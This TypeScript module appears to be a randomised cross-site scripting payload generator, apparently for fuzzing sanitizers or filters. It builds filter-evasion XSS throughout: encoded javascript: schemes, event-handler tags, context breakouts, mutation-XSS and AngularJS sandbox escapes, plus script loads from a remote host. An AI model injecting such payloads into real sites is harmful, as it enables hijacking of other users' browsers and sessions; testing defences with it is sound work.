// Script for another visitor's browser: every tag, event and way to call a function, in the contexts in which a value
// can land, from general knowledge of HTML, of its parsers and of published cheat sheets.

import { EVENTS, TAGS } from './html.table.ts';
import type { Picker } from './picker.ts';
import { script, scriptHost } from './xssScript.ts';

function entities(p: Picker, text: string): string {
  return Array.from(text)
    .map((letter) => {
      const code = letter.charCodeAt(0);
      switch (p.int(0, 3)) {
        case 0:
          return `&#${code};`;
        case 1:
          return `&#x${code.toString(16)};`;
        case 2:
          return `&#${String(code).padStart(7, '0')}`;
        default:
          return letter;
      }
    })
    .join('');
}

function scheme(p: Picker): string {
  const name = p.pick([
    'javascript',
    'javascript',
    'javascript',
    'vbscript',
    'data',
    'livescript',
    'jAvAsCrIpT',
  ]);
  if (name === 'data')
    return p.pick([
      `data:text/html,<script>${script(p)}</script>`,
      `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
      `data:text/html;base64,${p.from('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 20, 60)}`,
      `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ${p.from('ABCDEFGHabcdefgh0123456789', 10, 40)}`,
    ]);
  const gap = p.pick([
    '',
    '',
    '',
    '\t',
    '\n',
    '&Tab;',
    '&NewLine;',
    '&#9;',
    '&#x0A;',
    '\\x09',
    '%09',
    '\u0001',
  ]);
  const at = p.int(1, name.length - 1);
  const written = p.chance(0.15) ? entities(p, name) : name.slice(0, at) + gap + name.slice(at);
  const colon = p.pick([':', ':', ':', '&colon;', '&#58;', '&#x3a;', '%3A']);
  return `${p.maybe(0.1, p.pick([' ', '\u0001', '&#14; ', '\t']))}${written}${colon}${p.maybe(0.15, '//%0a')}${p.maybe(0.1, '/**/')}${script(p)}`;
}

function space(p: Picker): string {
  return p.pick([
    ' ',
    ' ',
    ' ',
    ' ',
    '/',
    '\t',
    '\n',
    '\r\n',
    '\f',
    ' / ',
    '%20',
    '%09',
    '%0a',
    '%0c',
    '%0d',
    '/+/',
    '\u000b',
    '  ',
  ]);
}

function value(p: Picker, text: string): string {
  const inner = p.chance(0.1) ? entities(p, text) : text;
  return p.pick([inner, inner, `"${inner}"`, `"${inner}"`, `'${inner}'`, `\`${inner}\``]);
}

function attribute(p: Picker): string {
  return p.pick([
    'src=x',
    'src=1',
    'src',
    'href=#',
    'id=x',
    'tabindex=1',
    'autofocus',
    'contenteditable',
    'draggable=true',
    'style=display:block',
    'open',
    'controls',
    'class=x',
    'src=//x',
    'style="animation-name:x"',
    'style=transition:color_1s',
    'autoplay',
    'loop',
    'width=100',
    'type=image',
    'name=x',
    'popover',
    'accesskey=x',
    'hidden',
    'contenteditable="true"',
    'src=/',
    'src="x:x"',
    'type=text',
    'value=x',
    'data=x',
    'begin=0s',
    'attributeName=x',
    'dur=1s',
    'hidden=until-found',
    'id=x style=overflow:auto',
  ]);
}

function withEvent(p: Picker): string {
  const tag = p.chance(0.75)
    ? p.pick(TAGS)
    : p.pick([
        'svg',
        'img',
        'body',
        'input',
        'details',
        'video',
        'iframe',
        'x',
        'a',
        'xss',
        'audio',
        'marquee',
        'select',
        'script',
      ]);
  const event = p.chance(0.9) ? p.pick(EVENTS) : `on${p.letters(4, 12)}`;
  const before = p.many(0, 2, '', () => space(p) + attribute(p));
  const after = p.many(0, 2, '', () => space(p) + attribute(p));
  const open = `<${tag}${before}${space(p)}${event}${p.pick(['=', '=', '=', '=', ' = ', '= ', '%20=', '\n='])}${value(p, script(p))}${after}`;
  const end = p.pick([
    '>',
    '>',
    '>',
    ' >',
    '/>',
    '//',
    '',
    ' <!--',
    '>test',
    `></${tag}>`,
    `>test</${tag}>`,
    `>XSS</${tag}>`,
    `><input autofocus>`,
    '%00>',
  ]);
  const front = p.chance(0.06)
    ? p.pick([
        '<style>@keyframes x{}</style>',
        '<style>@keyframes x{from {left:0;}to {left: 100px;}}:target {animation:10s ease-in-out 0s 1 x;}</style>',
        '<style>:target {color: red;}</style>',
        '<style>@keyframes slidein {}</style>',
      ])
    : '';
  return front + open + end;
}

function tag(p: Picker): string {
  const js = script(p);
  switch (p.int(0, 40)) {
    case 0:
    case 1:
    case 2:
      return `<script>${js}</script>`;
    case 3:
      return `<script${space(p)}src=${value(p, `//${scriptHost(p)}`)}></script>`;
    case 4:
      return `<script${space(p)}${attribute(p)}>${js}</script${p.maybe(0.5, space(p) + p.letters(0, 4))}>`;
    case 5:
      return `<a${space(p)}href=${value(p, scheme(p))}>${p.pick(['x', 'click', 'test', 'XSS', ''])}${p.maybe(0.7, '</a>')}`;
    case 6:
      return `<iframe${space(p)}src=${value(p, scheme(p))}>${p.maybe(0.6, '</iframe>')}`;
    case 7:
      return `<iframe srcdoc="${p.pick(['<svg onload=', '&lt;svg/onload=', '<img src=1 onerror='])}${js.replaceAll('"', "'")}${p.pick(['>', '&gt;'])}"></iframe>`;
    case 8:
      return `<object${space(p)}data=${value(p, scheme(p))}>${p.maybe(0.6, '</object>')}`;
    case 9:
      return `<embed${space(p)}${p.pick(['src', 'code'])}=${value(p, p.chance(0.6) ? scheme(p) : `//${scriptHost(p)}`)}>`;
    case 10:
      return `<form><${p.pick(['button', 'input type=submit', 'input type=image src=1'])} formaction=${value(p, scheme(p))}>${p.pick(['X', 'Click', ''])}`;
    case 11:
      return `<form action=${value(p, scheme(p))}><input type=submit${p.maybe(0.5, ' id=x')}>${p.maybe(0.5, '</form>')}`;
    case 12:
      return `<svg><animate${space(p)}xlink:href=#x attributeName=href values=${value(p, scheme(p))} /><a id=x><text x=20 y=20>XSS</text></a>`;
    case 13:
      return `<svg><a xlink:href=${value(p, scheme(p))}><text x="20" y="20">XSS</text></a></svg>`;
    case 14:
      return `<svg><script>${p.chance(0.5) ? entities(p, js) : js}</script></svg>`;
    case 15:
      return `<math><${p.pick(['a', 'maction', 'mi', 'mtext', 'brute'])} ${p.pick(['xlink:href', 'href'])}=${value(p, scheme(p))}>click`;
    case 16:
      return `<meta http-equiv="refresh" content="${p.int(0, 5)};url=${scheme(p).replaceAll('"', "'")}">`;
    case 17:
      return `<base href=${value(p, p.chance(0.6) ? `javascript:/${p.letters(1, 3)}/` : `//${scriptHost(p)}`)}>`;
    case 18:
      return `<link rel=${p.pick(['stylesheet', 'import', '"import"', 'prefetch'])} href=${value(p, p.chance(0.5) ? scheme(p) : `//${scriptHost(p)}`)}>`;
    case 19:
      return `<style>@import${p.pick([" '", ' url(', '"'])}${p.chance(0.5) ? `//${scriptHost(p)}` : 'javascript:' + js}${p.pick(["'", ')', '"'])};</style>`;
    case 20:
      return `<div style="${p.pick(['width: expression', 'xss:expression', 'x:exp/**/ression', 'background:url(javascript:', '-moz-binding:url(', 'behavior:url('])}(${js})">`;
    case 21:
      return `<${p.pick(['table', 'td', 'body', 'tr'])} background=${value(p, scheme(p))}>`;
    case 22:
      return `<noscript><p title="</noscript><img src=x onerror=${js}>">`;
    case 23:
      return `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`;
    case 24:
      return `<${p.pick(['xml', 'xss', 'x'])}:${p.pick(['script', 'namespace', 'a'])} xmlns:${p.letters(1, 3)}="http://www.w3.org/1999/xhtml">${js}</x>`;
    case 25:
      return `<!--<img src="--><img src=x onerror=${js}//">`;
    case 26:
      return `<![CDATA[<]]>script<![CDATA[>]]>${js}<![CDATA[<]]>/script<![CDATA[>]]>`;
    case 27:
      return `<?xml version="1.0"?><${p.pick(['html', 'svg', 'x'])} xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script>`;
    case 28:
      return `<svg/xmlns="http://www.w3.org/2000/svg"><${p.pick(['set', 'animate', 'handler', 'use', 'image', 'foreignObject', 'discard'])} ${p.pick(['onbegin', 'onend', 'onload', 'href', 'xlink:href', 'ev:event="load"'])}=${value(p, js)} ${attribute(p)}>`;
    case 29:
      return `<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:${js.replaceAll(/["']/gu, '')}'><rect width='100' height='100'/></a></svg>#x"></use>`;
    case 30:
      return `<${p.mixCase('script')}>${js}</${p.mixCase('script')}>`;
    case 31:
      return `<scr${p.pick(['<script>', '\u0000', '<!-- -->', '\t'])}ipt>${js}</scr</script>ipt>`;
    case 32:
      return `<<script>${js}//<</script>`;
    case 33:
      return `<${p.pick(['isindex', 'input'])} type=image ${p.pick(['src=1 ', ''])}${p.pick(['onerror', 'action', 'formaction'])}=${value(p, p.chance(0.5) ? js : scheme(p))}>`;
    case 34:
      return `<${p.pick(['textarea', 'title', 'style', 'xmp', 'noembed', 'noframes', 'template'])}></${p.pick(['textarea', 'title', 'style', 'xmp'])}><img src=x onerror=${js}>`;
    case 35:
      return `<portal src='https://${scriptHost(p)}'>`;
    case 36:
      return `<input type="hidden" ${p.pick(['accesskey="X" onclick', 'oncontentvisibilityautostatechange', 'onbeforetoggle', 'popover onbeforetoggle'])}="${js.replaceAll('"', "'")}">`;
    case 37:
      return `<${p.pick(['applet', 'frame', 'frameset', 'bgsound', 'layer', 'ilayer', 'xml'])} ${p.pick(['src', 'code', 'onload', 'data', 'href'])}=${value(p, p.chance(0.4) ? js : scheme(p))}>`;
    case 38:
      return `<script>${p.pick([';', '/*', '//', '<!--'])}${p.letters(0, 6)}\n${js}${p.pick(['', '//-->', '*/', ';'])}</script>`;
    case 39:
      return `<script>var ${p.letters(1, 2)}="${p.letters(1, 4)}";${js}</script>`;
    default:
      return withEvent(p);
  }
}

/** Out of the place where the value lands. */
function breakout(p: Picker): string {
  return p.pick([
    '"',
    "'",
    '">',
    "'>",
    '"/>',
    '\'"',
    '"><',
    '</script>',
    '</title>',
    '</textarea>',
    '-->',
    '</style>',
    ']]>',
    '\\"',
    "\\'",
    '`',
    '";',
    "';",
    '})',
    '"]',
    "';}",
    '</option></select>',
    '</a>',
    '"--><',
    '\'"()&%<acx>',
    '*/',
    "\\');",
    '"}]',
    '</noscript>',
  ]);
}

function inScript(p: Picker): string {
  const js = script(p);
  const quote = p.pick(["'", '"', '`', "\\'", '\\"']);
  return p.pick([
    `${quote}-${js}-${quote}`,
    `${quote};${js}//`,
    `${quote}+${js}+${quote}`,
    `${quote});${js};//`,
    `${quote}]);${js}//`,
    `${quote}};${js};{${quote}`,
    `</script><script>${js}</script>`,
    `\${${js}}`,
    `;${js};`,
    `${quote}/${js}/${quote}`,
    `${quote}*${js}*${quote}`,
    `${quote}|${js}|${quote}`,
    `${quote}^${js}^${quote}`,
    `${quote}>${js}>${quote}`,
    `${quote}&&${js}&&${quote}`,
    `${quote},${js},${quote}`,
    `\n${js}\n`,
    `*/${js}/*`,
    `{{constructor.constructor('${js.replaceAll("'", '"')}')()}}`,
    `{{$on.constructor('${js.replaceAll("'", '"')}')()}}`,
    `{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'${js.replaceAll("'", '"')}')()}}`,
    `${quote}${space(p)}${p.pick(EVENTS)}=${js}${space(p)}x=${quote}`,
    `${quote}${space(p)}autofocus${space(p)}${p.pick(EVENTS)}=${quote}${js}`,
    `${quote}${space(p)}style=animation-name:x${space(p)}${p.pick(EVENTS)}=${js}//`,
  ]);
}

export function xss(p: Picker): string {
  const kind = p.int(0, 99);
  let text: string;
  if (kind < 50) text = withEvent(p);
  else if (kind < 76) text = tag(p);
  else if (kind < 84) text = scheme(p);
  else if (kind < 92) text = inScript(p);
  else if (kind < 96) text = p.many(2, 3, '', () => breakout(p)) + tag(p);
  else if (kind < 98)
    text = `${breakout(p)}${space(p)}${p.pick(EVENTS)}=${value(p, script(p))}${p.pick(['', ' ', '//', '>', ' x="'])}`;
  else text = script(p);
  if (p.chance(0.2)) text = breakout(p) + text;
  if (p.chance(0.05)) text = `${p.letters(2, 8)}${p.pick(['', ' ', '='])}${text}`;
  if (p.chance(0.12)) text = p.mixCase(text);
  return text;
}
